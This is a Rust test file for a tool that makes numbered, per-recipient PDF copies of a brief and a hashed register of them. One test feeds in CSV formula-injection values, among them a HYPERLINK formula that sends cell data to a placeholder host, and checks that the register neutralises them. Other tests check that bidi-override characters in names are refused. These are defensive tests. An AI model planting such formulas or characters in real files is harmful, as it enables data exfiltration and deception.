//! Numbered copies for a distribution list: one PDF per recipient with its number and recipient
//! on every page and in its metadata, a register whose hashes match the files, the same bytes
//! on a second run, and a bad list reported like a bad brief. A register no spreadsheet runs,
//! errors at their place in a list saved with CRLF line endings, names that print as they are
//! stored and stay in the foot, and a folder an interrupted run leaves as it found it.

use std::process::Command;
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

use crate::support::{Output, Pdf, Test, repo_file};

const TOTAL: usize = 50;

/// A CSV list of fifty, with a comma inside a quoted organisation and some notes left empty.
fn fifty() -> String {
    let mut list = String::from("name,organisation,note\n");
    for n in 1..=TOTAL {
        let note = if n % 2 == 0 {
            format!("seat {n}")
        } else {
            String::new()
        };
        list.push_str(&format!(
            "Recipient {n:02},\"Ministry {n}, Minsk desk\",{note}\n"
        ));
    }
    list
}

/// Standard error with the times of the lines per copy and of the closing line as `T`:
/// `built … (9 pages, T s)`, `made 50 of 50 copies in T s`.
fn masked(stderr: &str) -> String {
    stderr
        .split_inclusive('\n')
        .map(|line| {
            let body = line.trim_end_matches('\n');
            if let Some(rest) = body.strip_suffix(" s)")
                && let Some(comma) = rest.rfind(", ")
                && rest[comma + 2..].parse::<f64>().is_ok()
            {
                format!("{}, T s)\n", &rest[..comma])
            } else if let Some(rest) = body.strip_suffix(" s")
                && let Some(at) = rest.rfind(" in ")
                && rest[at + 4..].parse::<f64>().is_ok()
            {
                format!("{} in T s\n", &rest[..at])
            } else {
                line.to_string()
            }
        })
        .collect()
}

/// The lines of a run that made `total` copies of belarus.toml into `out`, times masked.
fn progress(total: usize, pages: usize) -> String {
    let mut lines = String::new();
    for n in 1..=total {
        lines.push_str(&format!(
            "built  belarus.toml -> out/belarus-copy-{n:02}.pdf ({pages} pages, T s)\n"
        ));
    }
    lines.push_str(&format!("made {total} of {total} copies in T s\n"));
    lines
}

fn make_copies(dir_name: &str, list_name: &str, list: &str, extra: &[&str]) -> Output {
    let mut args = vec![
        "pdf",
        "belarus.toml",
        "--recipients",
        list_name,
        "--out-dir",
        dir_name,
    ];
    args.extend(extra);
    Test::new()
        .file("belarus.toml", repo_file("briefs/belarus.toml"))
        .file(list_name, list)
        .args(&args)
        .any_stderr()
        .run()
}

fn hex(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn fifty_recipients_get_fifty_numbered_copies_and_a_register() {
    let out = make_copies("out", "list.csv", &fifty(), &[]);
    let pages = out.pdf("out/belarus-copy-01.pdf").page_count();
    assert_eq!(masked(&out.stderr), progress(TOTAL, pages));
    let register_bytes = out.read("out/copies.csv");
    let mut register = csv::Reader::from_reader(register_bytes.as_slice());
    assert_eq!(
        register.headers().unwrap(),
        vec!["copy", "name", "organisation", "note", "file", "sha256"]
    );
    let rows: Vec<csv::StringRecord> = register.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), TOTAL);
    let mut files: Vec<String> = std::fs::read_dir(out.path("out"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(files.len(), TOTAL + 1, "{files:?}");

    for (i, row) in rows.iter().enumerate() {
        let n = i + 1;
        let name = format!("Recipient {n:02}");
        let file = format!("belarus-copy-{n:02}.pdf");
        assert_eq!(row[0].to_string(), n.to_string());
        assert_eq!(&row[1], name);
        assert_eq!(row[2].to_string(), format!("Ministry {n}, Minsk desk"));
        assert_eq!(&row[4], file);
        let bytes = out.read(&format!("out/{file}"));
        assert_eq!(&row[5], hex(&bytes), "the register's hash of {file}");

        let pdf = Pdf::load(&bytes);
        let copy = format!("Copy {n} of {TOTAL}");
        let issued = format!("Issued to {name}, Ministry {n}, Minsk desk");
        let footer = format!("{copy} · {issued}");
        for (p, page) in pdf.text().split('\u{c}').enumerate() {
            assert!(
                page.lines().any(|l| l.trim() == footer),
                "{file} page {}: no `{footer}`:\n{page}",
                p + 1
            );
        }
        let keywords = pdf.info("Keywords").unwrap_or_default();
        assert!(
            keywords.contains(&copy) && keywords.contains(&issued),
            "{file}: {keywords}"
        );
    }

    // A second run writes the same bytes, register included; --quiet leaves out the lines.
    let again = make_copies("out", "list.csv", &fifty(), &["--quiet"]);
    assert_eq!(again.stderr, "");
    for file in files {
        assert!(
            out.read(&format!("out/{file}")) == again.read(&format!("out/{file}")),
            "{file} differs between two runs"
        );
    }
}

#[test]
fn a_toml_list_and_a_watermark_that_stays_an_accessible_artifact() {
    let list = "[[recipients]]\nname = \"Anna Kowalska\"\norganisation = \"MFA\"\nnote = \"by hand\"\n\n\
                [[recipients]]\nname = \"Ян Шарэцкі\"\n";
    let out = make_copies("out", "list.toml", list, &["--watermark"]);
    let register = String::from_utf8(out.read("out/copies.csv")).unwrap();
    assert!(
        register.contains("1,Anna Kowalska,MFA,by hand,belarus-copy-01.pdf,"),
        "{register}"
    );
    assert!(
        register.contains("2,Ян Шарэцкі,,,belarus-copy-02.pdf,"),
        "{register}"
    );
    let pdf = out.pdf("out/belarus-copy-02.pdf");
    // Typst's own PDF/UA-1 validation passed as it was written; the mark is on every page, as
    // a watermark artifact outside the document's structure.
    assert!(pdf.is_tagged());
    assert_eq!(watermarked_pages(&pdf), vec![true; pdf.page_count()]);
    // Without --watermark there is none.
    let plain = make_copies("out", "list.toml", list, &[]).pdf("out/belarus-copy-02.pdf");
    assert_eq!(watermarked_pages(&plain), vec![false; plain.page_count()]);
}

/// For each page, whether it has a watermark artifact that shows text.
fn watermarked_pages(pdf: &Pdf) -> Vec<bool> {
    pdf.operations()
        .iter()
        .map(|page| {
            let mut inside = 0;
            let mut shows_text = false;
            for (op, operands) in page {
                match op.as_str() {
                    "BDC" if inside > 0 => inside += 1,
                    "BDC" if format!("{operands:?}").contains("Watermark") => inside = 1,
                    "BMC" if inside > 0 => inside += 1,
                    "EMC" if inside > 0 => inside -= 1,
                    "Tj" | "TJ" if inside > 0 => shows_text = true,
                    _ => {}
                }
            }
            shows_text
        })
        .collect()
}

#[test]
fn a_bad_list_gets_located_errors_and_no_copy() {
    let list =
        "[[recipients]]\nnmae = \"Ann\"\n\n[[recipients]]\nname = \"Bo\"\norganisation = 3\n";
    let out = Test::new()
        .file("belarus.toml", repo_file("briefs/belarus.toml"))
        .file("list.toml", list)
        .args(&[
            "pdf",
            "belarus.toml",
            "--recipients",
            "list.toml",
            "--out-dir",
            "out",
        ])
        .status(1)
        .stderr(
            "error: unknown key `nmae` in [[recipients]] entry 1
 --> list.toml:2:1
  |
2 | nmae = \"Ann\"
  | ^^^^
  = hint: did you mean `name`?

error: `organisation` must be a string
 --> list.toml:6:16
  |
6 | organisation = 3
  |                ^

error: belarus.toml was not typeset: 2 errors

failed belarus.toml
",
        )
        .run();
    assert_eq!(
        out.files(),
        vec![
            "belarus-references.json",
            "belarus.toml",
            "list.toml",
            "out"
        ]
    );
    assert!(std::fs::read_dir(out.path("out")).unwrap().next().is_none());

    Test::new()
        .file("belarus.toml", repo_file("briefs/belarus.toml"))
        .file("list.csv", "name,organisation,note\nAnn,MFA\n")
        .args(&[
            "pdf",
            "belarus.toml",
            "--recipients",
            "list.csv",
            "--out-dir",
            "out",
        ])
        .status(1)
        .stderr(
            "error: this line has 2 fields, not 3 (name, organisation, note)
 --> list.csv:2:1
  |
2 | Ann,MFA
  | ^^^^^^^
  = hint: put a value in double quotes if it holds a comma

error: belarus.toml was not typeset: 1 error

failed belarus.toml
",
        )
        .run();
}

#[test]
fn copies_are_of_one_brief_into_a_folder() {
    Test::new()
        .file("a.toml", repo_file("briefs/belarus.toml"))
        .file("b.toml", repo_file("briefs/belarus.toml"))
        .file("list.csv", "name,organisation,note\nAnn,,\n")
        .args(&[
            "pdf",
            "a.toml",
            "b.toml",
            "--recipients",
            "list.csv",
            "--out-dir",
            "out",
        ])
        .status(2)
        .stderr("error: --recipients makes copies of one brief; name one brief file\n\n")
        .run();
    // The register never replaces the list it is made from.
    let out = Test::new()
        .file("a.toml", repo_file("briefs/belarus.toml"))
        .file("out/copies.csv", "name,organisation,note\nAnn,,\n")
        .args(&[
            "pdf",
            "a.toml",
            "--recipients",
            "out/copies.csv",
            "--out-dir",
            "out",
        ])
        .status(2)
        .any_stderr()
        .run();
    assert_eq!(
        out.read("out/copies.csv"),
        b"name,organisation,note\nAnn,,\n"
    );
    assert!(!out.path("out/a-copy-01.pdf").exists());
    Test::new()
        .file("a.toml", repo_file("briefs/belarus.toml"))
        .file("list.csv", "name,organisation,note\nAnn,,\n")
        .args(&["pdf", "a.toml", "--recipients", "list.csv"])
        .status(2)
        .any_stderr()
        .run();
}

/// A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage
/// return): the register makes each such cell text with a leading `'`, and the copies print
/// the names as written.
#[test]
fn register_cells_a_spreadsheet_would_run_are_made_text_and_the_copies_print_them_as_written() {
    let hyperlink = r#"=HYPERLINK("http://x.example/?"&A1,"Ann")"#;
    // TOML, whose values keep a leading tab (a CSV list's values are trimmed).
    let list = format!(
        "[[recipients]]\nname = '{hyperlink}'\norganisation = 'MFA'\n\
         [[recipients]]\nname = '+48 Jan'\norganisation = '@SUM(A1:A9)'\n\
         [[recipients]]\nname = '-Bo'\norganisation = '-'\nnote = \"\\tby hand\"\n\
         [[recipients]]\nname = '@Ann'\norganisation = '=1+1'\nnote = '+call first'\n"
    );
    let out = make_copies("out", "list.toml", &list, &["--quiet"]);
    assert_eq!(out.stderr, "");
    let register_bytes = out.read("out/copies.csv");
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(register_bytes.as_slice())
        .records()
        .map(|r| r.unwrap().iter().take(5).map(str::to_string).collect())
        .collect();
    let row = |cells: [&str; 5]| cells.map(str::to_string).to_vec();
    assert_eq!(
        rows,
        vec![
            row([
                "1",
                &format!("'{hyperlink}"),
                "MFA",
                "",
                "belarus-copy-01.pdf"
            ]),
            row(["2", "'+48 Jan", "'@SUM(A1:A9)", "", "belarus-copy-02.pdf"]),
            row(["3", "'-Bo", "'-", "'\tby hand", "belarus-copy-03.pdf"]),
            row(["4", "'@Ann", "'=1+1", "'+call first", "belarus-copy-04.pdf"]),
        ]
    );
    let printed = [
        format!("{hyperlink}, MFA"),
        "+48 Jan, @SUM(A1:A9)".into(),
        "-Bo, -".into(),
        "@Ann, =1+1".into(),
    ];
    for (i, recipient) in printed.iter().enumerate() {
        let n = i + 1;
        let text = out.pdf(&format!("out/belarus-copy-{n:02}.pdf")).text();
        let footer = format!("Copy {n} of 4 · Issued to {recipient}");
        assert!(
            text.lines().any(|l| l.trim() == footer),
            "copy {n}: no `{footer}`:\n{text}"
        );
    }
}

#[test]
fn a_crlf_list_gets_its_errors_at_the_right_line_and_column() {
    let run = |name: &str, list: &str, stderr: &str| {
        Test::new()
            .file("belarus.toml", repo_file("briefs/belarus.toml"))
            .file(name, list)
            .args(&[
                "pdf",
                "belarus.toml",
                "--recipients",
                name,
                "--out-dir",
                "out",
            ])
            .status(1)
            .stderr(stderr)
            .run();
    };
    run(
        "list.csv",
        "name,organisation,note\r\nAnn,MFA,\r\nBo,MFA\r\n\r\nCy,\"Foreign, \u{2067}Office\",x\r\n",
        "error: this line has 2 fields, not 3 (name, organisation, note)
 --> list.csv:3:1
  |
3 | Bo,MFA
  | ^^^^^^
  = hint: put a value in double quotes if it holds a comma

error: `organisation` holds U+2067 RIGHT-TO-LEFT ISOLATE, a bidirectional control that would change the order in which the copy prints it
 --> list.csv:5:14
  |
5 | Cy,\"Foreign, \\u{2067}Office\",x
  |              ^^^^^^^^
  = hint: remove it: a name in Arabic or Hebrew script is printed right to left without it

error: belarus.toml was not typeset: 2 errors

failed belarus.toml
",
    );
    run(
        "list.toml",
        "[[recipients]]\r\nname = \"Ann\"\r\n\r\n[[recipients]]\r\nname = \"Bo\"\r\norganization = \"MFA\"\r\n",
        "error: unknown key `organization` in [[recipients]] entry 2
 --> list.toml:6:1
  |
6 | organization = \"MFA\"
  | ^^^^^^^^^^^^
  = hint: did you mean `organisation`?

error: belarus.toml was not typeset: 1 error

failed belarus.toml
",
    );
}

#[test]
fn a_bidi_control_in_a_name_is_refused_where_it_stands() {
    Test::new()
        .file("belarus.toml", repo_file("briefs/belarus.toml"))
        .file(
            "list.toml",
            "[[recipients]]\nname = \"Ann \u{202e}eoD\"\norganisation = \"MFA\\u200F\"\n",
        )
        .args(&[
            "pdf",
            "belarus.toml",
            "--recipients",
            "list.toml",
            "--out-dir",
            "out",
        ])
        .status(1)
        .stderr(
            "error: `name` holds U+202E RIGHT-TO-LEFT OVERRIDE, a bidirectional control that would change the order in which the copy prints it
 --> list.toml:2:13
  |
2 | name = \"Ann \\u{202e}eoD\"
  |             ^^^^^^^^
  = hint: remove it: a name in Arabic or Hebrew script is printed right to left without it

error: `organisation` holds U+200F RIGHT-TO-LEFT MARK, a bidirectional control that would change the order in which the copy prints it
 --> list.toml:3:16
  |
3 | organisation = \"MFA\\u200F\"
  |                ^^^^^^^^^^^
  = hint: remove it: a name in Arabic or Hebrew script is printed right to left without it

error: belarus.toml was not typeset: 2 errors

failed belarus.toml
",
        )
        .run();
}

#[test]
fn a_name_too_long_for_the_foot_is_refused() {
    let long = "Jane Doe ".repeat(556).trim_end().to_string();
    assert_eq!(long.chars().count(), 5_003);
    let list = format!(
        "[[recipients]]\nname = \"{long}\"\n[[recipients]]\nname = \"Ann\"\norganisation = \"{}\"\n",
        "Ministry ".repeat(9) + "of X"
    );
    Test::new()
        .file("belarus.toml", repo_file("briefs/belarus.toml"))
        .file("list.toml", list)
        .args(&[
            "pdf",
            "belarus.toml",
            "--recipients",
            "list.toml",
            "--out-dir",
            "out",
            "--diagnostic-format",
            "short",
        ])
        .status(1)
        .stderr(
            "list.toml:2:8: error: `name` is 5003 characters long, more than 60 \
             (hint: the foot of every page prints the recipient's name and organisation; \
             shorten it to 60 characters or fewer (`note` goes to the register only and may be longer))
list.toml:5:16: error: `organisation` is 85 characters long, more than 80 \
             (hint: the foot of every page prints the recipient's name and organisation; \
             shorten it to 80 characters or fewer (`note` goes to the register only and may be longer))
",
        )
        .run();
}

/// Ctrl-C or SIGTERM while copies are being made: the folder keeps what it held (here a
/// previous run's copy and register), with no new copy, no temporary file, and no register
/// that disagrees with the copies.
#[cfg(unix)]
#[test]
fn an_interrupted_run_leaves_the_copies_and_register_it_found() {
    let list = "name,organisation,note\nAnn,,\nBo,,\nCy,,\n";
    for signal in ["INT", "TERM"] {
        let test = Test::new()
            .file("belarus.toml", repo_file("briefs/belarus.toml"))
            .file("list.csv", list)
            .file("out/belarus-copy-01.pdf", "the old copy")
            .file("out/copies.csv", "the old register");
        let dir = test.path();
        let mut child = Command::new(env!("CARGO_BIN_EXE_brief"))
            .args([
                "pdf",
                "belarus.toml",
                "--recipients",
                "list.csv",
                "--out-dir",
                "out",
            ])
            .current_dir(&dir)
            .env("BRIEF_TEST_SLOW_WRITE_MS", "1500")
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let files = || {
            let mut names: Vec<String> = std::fs::read_dir(dir.join("out"))
                .unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            names.sort();
            names
        };
        let temporary = || files().iter().filter(|n| n.ends_with(".tmp")).count();
        // Interrupted once two copies are made and the third is being written.
        let began = Instant::now();
        while temporary() < 3 {
            assert!(
                began.elapsed() < Duration::from_secs(120),
                "{signal}: no third copy: {:?}",
                files()
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        Command::new("kill")
            .args([&format!("-{signal}"), &child.id().to_string()])
            .status()
            .unwrap();
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(130), "{signal}: {status:?}");
        assert_eq!(files(), ["belarus-copy-01.pdf", "copies.csv"], "{signal}");
        assert_eq!(
            std::fs::read(dir.join("out/belarus-copy-01.pdf")).unwrap(),
            b"the old copy"
        );
        assert_eq!(
            std::fs::read(dir.join("out/copies.csv")).unwrap(),
            b"the old register"
        );
    }
}
